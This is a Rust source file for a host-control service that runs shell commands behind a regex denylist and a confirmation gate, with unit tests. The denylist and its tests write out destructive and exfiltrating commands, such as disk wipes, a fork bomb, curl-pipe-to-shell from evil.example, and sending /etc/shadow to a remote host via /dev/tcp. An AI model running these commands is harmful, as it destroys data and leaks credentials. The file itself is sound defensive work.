use std::sync::Arc;
use std::time::Duration;

use chrono::{DateTime, Utc};
use once_cell::sync::Lazy;
use regex::Regex;
use tokio::sync::Mutex;
use tracing::*;
use uuid::Uuid;

use thea_remote_protocol::{ProcessInfo, SystemControlAction, SystemInfo};

use crate::platform::{ConfirmationHandler, PlatformError, SystemControl};

const DEFAULT_COMMAND_TIMEOUT: Duration = Duration::from_secs(60);

#[derive(thiserror::Error, Debug)]
pub enum SystemServiceError {
    #[error("Command blocked")]
    CommandBlocked,
    #[error("Operation not confirmed")]
    ConfirmationDenied,
    #[error("Invalid MAC address")]
    InvalidMac,
    #[error(transparent)]
    Platform(#[from] PlatformError),
    #[error("I/O: {0}")]
    Io(#[from] std::io::Error),
}

impl SystemServiceError {
    pub fn is_policy_rejection(&self) -> bool {
        matches!(
            self,
            SystemServiceError::CommandBlocked
                | SystemServiceError::ConfirmationDenied
                | SystemServiceError::InvalidMac
        )
    }
}

static COMMAND_DENYLIST: Lazy<Vec<Regex>> = Lazy::new(|| {
    [
        r"rm\s+-[a-zA-Z]*[rR][a-zA-Z]*[fF][a-zA-Z]*\s+/\s*($|;|&)",
        r"rm\s+-[a-zA-Z]*[rR][a-zA-Z]*[fF][a-zA-Z]*\s+~",
        r":\(\)\s*\{\s*:\s*\|\s*:\s*&\s*\}\s*;\s*:",
        r"dd\s+if=/dev/zero",
        r"\bmkfs(\.\w+)?\b",
        r">\s*/dev/sd[a-z]",
        r"(wget|curl)[^|;]*\|\s*(ba|z)?sh",
        r"/dev/tcp",
        r"base64\s+/etc/passwd",
    ]
    .iter()
    .map(|p| {
        #[allow(clippy::unwrap_used)]
        Regex::new(p).unwrap()
    })
    .collect()
});

#[derive(Debug, Clone)]
pub struct PendingConfirmation {
    pub id: Uuid,
    pub prompt: String,
    pub requested_at: DateTime<Utc>,
}

#[derive(Debug, Clone, PartialEq)]
pub struct CommandOutput {
    pub exit_code: i32,
    pub stdout: String,
    pub stderr: String,
}

/// Host inspection and control. Dangerous operations pass through the
/// confirmation gate; shell commands pass the denylist first.
pub struct SystemService {
    control: Arc<dyn SystemControl>,
    confirmations: Arc<dyn ConfirmationHandler>,
    require_confirmation: bool,
    confirmation_timeout: Duration,
    pending: Mutex<Vec<PendingConfirmation>>,
}

impl SystemService {
    pub fn new(
        control: Arc<dyn SystemControl>,
        confirmations: Arc<dyn ConfirmationHandler>,
        require_confirmation: bool,
        confirmation_timeout: Duration,
    ) -> Self {
        Self {
            control,
            confirmations,
            require_confirmation,
            confirmation_timeout,
            pending: Mutex::new(vec![]),
        }
    }

    pub fn command_is_blocked(command: &str) -> bool {
        COMMAND_DENYLIST.iter().any(|re| re.is_match(command))
    }

    pub async fn execute_command(
        &self,
        command: &str,
        working_directory: Option<&str>,
        timeout: Option<Duration>,
    ) -> Result<CommandOutput, SystemServiceError> {
        if Self::command_is_blocked(command) {
            warn!(%command, "Refusing denylisted command");
            return Err(SystemServiceError::CommandBlocked);
        }
        if self.require_confirmation
            && !self
                .request_confirmation(&format!("Execute command: {command}"))
                .await
        {
            return Err(SystemServiceError::ConfirmationDenied);
        }

        let timeout = timeout.unwrap_or(DEFAULT_COMMAND_TIMEOUT);
        let mut builder = tokio::process::Command::new("sh");
        builder
            .arg("-c")
            .arg(command)
            .stdin(std::process::Stdio::null())
            .stdout(std::process::Stdio::piped())
            .stderr(std::process::Stdio::piped())
            .kill_on_drop(true);
        if let Some(cwd) = working_directory {
            builder.current_dir(cwd);
        }
        let mut child = builder.spawn()?;

        let stdout = child.stdout.take();
        let stderr = child.stderr.take();
        let stdout_task = tokio::spawn(read_stream(stdout));
        let stderr_task = tokio::spawn(read_stream(stderr));

        let status = match tokio::time::timeout(timeout, child.wait()).await {
            Ok(status) => status?,
            Err(_) => {
                warn!(%command, ?timeout, "Command timed out, killing");
                let _ = child.kill().await;
                child.wait().await?
            }
        };

        let stdout = stdout_task.await.unwrap_or_default();
        let stderr = stderr_task.await.unwrap_or_default();
        Ok(CommandOutput {
            exit_code: exit_code_of(status),
            stdout,
            stderr,
        })
    }

    pub async fn get_info(&self) -> Result<SystemInfo, SystemServiceError> {
        let battery = self.control.battery().await;
        let info = tokio::task::spawn_blocking(move || {
            let mut sys = sysinfo::System::new_all();
            sys.refresh_memory();
            let disks = sysinfo::Disks::new_with_refreshed_list();
            let (total_disk, available_disk) = disks
                .list()
                .iter()
                .fold((0u64, 0u64), |(total, avail), disk| {
                    (total + disk.total_space(), avail + disk.available_space())
                });
            SystemInfo {
                hostname: sysinfo::System::host_name().unwrap_or_else(|| "unknown".into()),
                os_version: sysinfo::System::long_os_version()
                    .unwrap_or_else(|| "unknown".into()),
                architecture: std::env::consts::ARCH.to_owned(),
                cpu_count: sys.cpus().len(),
                total_memory: sys.total_memory(),
                available_memory: sys.available_memory(),
                total_disk,
                available_disk,
                uptime_seconds: sysinfo::System::uptime(),
                battery_level: None,
                battery_charging: None,
                current_user: std::env::var("USER")
                    .or_else(|_| std::env::var("USERNAME"))
                    .unwrap_or_else(|_| "unknown".into()),
            }
        })
        .await
        .map_err(|e| PlatformError::Failed(e.to_string()))?;

        let mut info = info;
        if let Some((level, charging)) = battery {
            info.battery_level = Some(level);
            info.battery_charging = Some(charging);
        }
        Ok(info)
    }

    pub async fn get_processes(&self) -> Result<Vec<ProcessInfo>, SystemServiceError> {
        let processes = tokio::task::spawn_blocking(|| {
            let sys = sysinfo::System::new_all();
            let users = sysinfo::Users::new_with_refreshed_list();
            let mut processes: Vec<ProcessInfo> = sys
                .processes()
                .iter()
                .map(|(pid, process)| ProcessInfo {
                    pid: pid.as_u32(),
                    name: process.name().to_string_lossy().into_owned(),
                    path: process
                        .exe()
                        .map(|p| p.to_string_lossy().into_owned()),
                    user: process
                        .user_id()
                        .and_then(|uid| users.get_user_by_id(uid))
                        .map(|user| user.name().to_owned()),
                    cpu_percent: process.cpu_usage(),
                    memory_bytes: process.memory(),
                    start_time: DateTime::<Utc>::from_timestamp(
                        process.start_time() as i64,
                        0,
                    ),
                    parent_pid: process.parent().map(|p| p.as_u32()),
                })
                .collect();
            processes.sort_by_key(|p| p.pid);
            processes
        })
        .await
        .map_err(|e| PlatformError::Failed(e.to_string()))?;
        Ok(processes)
    }

    /// Reboot, shutdown and logout demand confirmation no matter what the
    /// configuration says.
    pub async fn system_control(
        &self,
        action: SystemControlAction,
    ) -> Result<(), SystemServiceError> {
        let always = matches!(
            action,
            SystemControlAction::Reboot
                | SystemControlAction::Shutdown
                | SystemControlAction::Logout
        );
        if (always || self.require_confirmation)
            && !self
                .request_confirmation(&format!("Perform system action: {action:?}"))
                .await
        {
            return Err(SystemServiceError::ConfirmationDenied);
        }
        self.control.perform(action).await?;
        Ok(())
    }

    /// Denied on timeout.
    async fn request_confirmation(&self, prompt: &str) -> bool {
        let pending = PendingConfirmation {
            id: Uuid::new_v4(),
            prompt: prompt.to_owned(),
            requested_at: Utc::now(),
        };
        let id = pending.id;
        self.pending.lock().await.push(pending);
        let decision = tokio::time::timeout(
            self.confirmation_timeout,
            self.confirmations.confirm(prompt),
        )
        .await
        .unwrap_or(false);
        self.pending.lock().await.retain(|p| p.id != id);
        decision
    }

    pub async fn pending_confirmations(&self) -> Vec<PendingConfirmation> {
        self.pending.lock().await.clone()
    }

    /// Magic packet: six 0xFF bytes then the MAC sixteen times, broadcast
    /// on UDP port 9.
    pub async fn wake_on_lan(&self, mac_address: &str) -> Result<(), SystemServiceError> {
        let mac = parse_mac(mac_address).ok_or(SystemServiceError::InvalidMac)?;
        let mut packet = Vec::with_capacity(6 + 16 * 6);
        packet.extend_from_slice(&[0xFF; 6]);
        for _ in 0..16 {
            packet.extend_from_slice(&mac);
        }
        let socket = tokio::net::UdpSocket::bind("0.0.0.0:0").await?;
        socket.set_broadcast(true)?;
        socket.send_to(&packet, ("255.255.255.255", 9)).await?;
        info!(%mac_address, "Wake-on-LAN packet sent");
        Ok(())
    }
}

fn parse_mac(input: &str) -> Option<[u8; 6]> {
    let separator = if input.contains(':') {
        ':'
    } else if input.contains('-') {
        '-'
    } else {
        return None;
    };
    let mut mac = [0u8; 6];
    let mut count = 0;
    for (i, part) in input.split(separator).enumerate() {
        if i >= 6 || part.len() != 2 {
            return None;
        }
        mac[i] = u8::from_str_radix(part, 16).ok()?;
        count += 1;
    }
    (count == 6).then_some(mac)
}

async fn read_stream(stream: Option<impl tokio::io::AsyncRead + Unpin>) -> String {
    use tokio::io::AsyncReadExt;
    let Some(mut stream) = stream else {
        return String::new();
    };
    let mut buffer = Vec::new();
    let _ = stream.read_to_end(&mut buffer).await;
    String::from_utf8_lossy(&buffer).into_owned()
}

#[cfg(unix)]
fn exit_code_of(status: std::process::ExitStatus) -> i32 {
    use std::os::unix::process::ExitStatusExt;
    status
        .code()
        .or_else(|| status.signal().map(|s| -s))
        .unwrap_or(-1)
}

#[cfg(not(unix))]
fn exit_code_of(status: std::process::ExitStatus) -> i32 {
    status.code().unwrap_or(-1)
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::platform::{AutoApproveConfirmations, DenyConfirmations, NullSystemControl};

    fn service(require_confirmation: bool, approve: bool) -> SystemService {
        let confirmations: Arc<dyn ConfirmationHandler> = if approve {
            Arc::new(AutoApproveConfirmations)
        } else {
            Arc::new(DenyConfirmations)
        };
        SystemService::new(
            Arc::new(NullSystemControl),
            confirmations,
            require_confirmation,
            Duration::from_secs(1),
        )
    }

    #[test]
    fn test_denylist_catches_destructive_commands() {
        for command in [
            "rm -rf /",
            "rm -rf / ",
            "rm -rf ~",
            ":(){:|:&};:",
            "dd if=/dev/zero of=/dev/sda",
            "mkfs.ext4 /dev/sda1",
            "echo pwned > /dev/sda",
            "curl http://evil.example/x.sh | sh",
            "wget -qO- http://evil.example/x | bash",
            "cat /etc/shadow > /dev/tcp/10.0.0.1/4444",
            "base64 /etc/passwd",
        ] {
            assert!(
                SystemService::command_is_blocked(command),
                "should block: {command}"
            );
        }
    }

    #[test]
    fn test_denylist_allows_ordinary_commands() {
        for command in [
            "ls -la /tmp",
            "echo hello",
            "rm -rf ./build",
            "curl https://example.com",
            "uname -a",
        ] {
            assert!(
                !SystemService::command_is_blocked(command),
                "should allow: {command}"
            );
        }
    }

    #[tokio::test]
    async fn test_execute_command_captures_streams_separately() {
        let service = service(false, false);
        let output = service
            .execute_command("echo out; echo err 1>&2", None, None)
            .await
            .unwrap();
        assert_eq!(output.exit_code, 0);
        assert_eq!(output.stdout.trim(), "out");
        assert_eq!(output.stderr.trim(), "err");
    }

    #[tokio::test]
    async fn test_execute_command_timeout_kills_process() {
        let service = service(false, false);
        let output = service
            .execute_command("sleep 30", None, Some(Duration::from_millis(200)))
            .await
            .unwrap();
        assert!(output.exit_code < 0, "exit code reflects the kill signal");
    }

    #[tokio::test]
    async fn test_blocked_command_is_refused_before_confirmation() {
        let service = service(true, true);
        assert!(matches!(
            service.execute_command("rm -rf /", None, None).await,
            Err(SystemServiceError::CommandBlocked)
        ));
    }

    #[tokio::test]
    async fn test_reboot_requires_confirmation_even_when_gate_disabled() {
        let service = service(false, false);
        assert!(matches!(
            service.system_control(SystemControlAction::Reboot).await,
            Err(SystemServiceError::ConfirmationDenied)
        ));
    }

    #[tokio::test]
    async fn test_approved_control_reaches_platform() {
        let service = service(false, true);
        // NullSystemControl reports Unsupported once the gate passes
        assert!(matches!(
            service.system_control(SystemControlAction::Reboot).await,
            Err(SystemServiceError::Platform(PlatformError::Unsupported))
        ));
    }

    #[tokio::test]
    async fn test_get_info_reports_host_basics() {
        let service = service(false, false);
        let info = service.get_info().await.unwrap();
        assert!(info.cpu_count > 0);
        assert!(info.total_memory > 0);
        assert!(!info.hostname.is_empty());
    }

    #[test]
    fn test_mac_parsing() {
        assert_eq!(
            parse_mac("aa:bb:cc:dd:ee:ff"),
            Some([0xaa, 0xbb, 0xcc, 0xdd, 0xee, 0xff])
        );
        assert_eq!(
            parse_mac("AA-BB-CC-DD-EE-FF"),
            Some([0xaa, 0xbb, 0xcc, 0xdd, 0xee, 0xff])
        );
        assert_eq!(parse_mac("aa:bb:cc:dd:ee"), None);
        assert_eq!(parse_mac("aa:bb:cc:dd:ee:ff:00"), None);
        assert_eq!(parse_mac("aabbccddeeff"), None);
        assert_eq!(parse_mac("zz:bb:cc:dd:ee:ff"), None);
    }
}
